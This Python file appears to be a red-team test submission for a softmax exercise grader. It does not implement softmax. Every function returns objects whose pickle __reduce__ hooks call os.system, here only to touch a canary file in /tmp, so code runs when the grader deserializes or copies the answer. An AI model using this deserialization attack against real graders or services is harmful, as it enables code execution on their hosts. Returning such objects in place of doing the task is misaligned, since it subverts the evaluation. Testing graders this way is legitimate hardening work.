# Answers with named tuples, struct sequences, enums and dataclasses whose reduction runs code.
# exercise: softmax
# worth: 0
# proof: got an object of type Reduce

import collections
import enum
import os


class Number(float, enum.Enum):
    ONE = 1.0


class Reduce:
    def __reduce__(self):
        return os.system, ("touch /tmp/redteam-loot-reduce",)

    __getstate__ = __reduce_ex__ = lambda self, *args: (os.system, ("touch /tmp/redteam-loot-reduce",))


Point = collections.namedtuple("Point", "x y")
answers = [Number.ONE, Reduce(), Point(Reduce(), 1.0), os.terminal_size((1, 2)), collections.UserDict(a=Reduce())]


def attack(x):
    answers.append(answers.pop(0))
    return answers[-1]


def softmax(x, axis=-1):
    return attack(x)


def softmax_jacobian(x):
    return attack(x)


def softmax_backward(grad_output, output, axis=-1):
    return attack(grad_output)
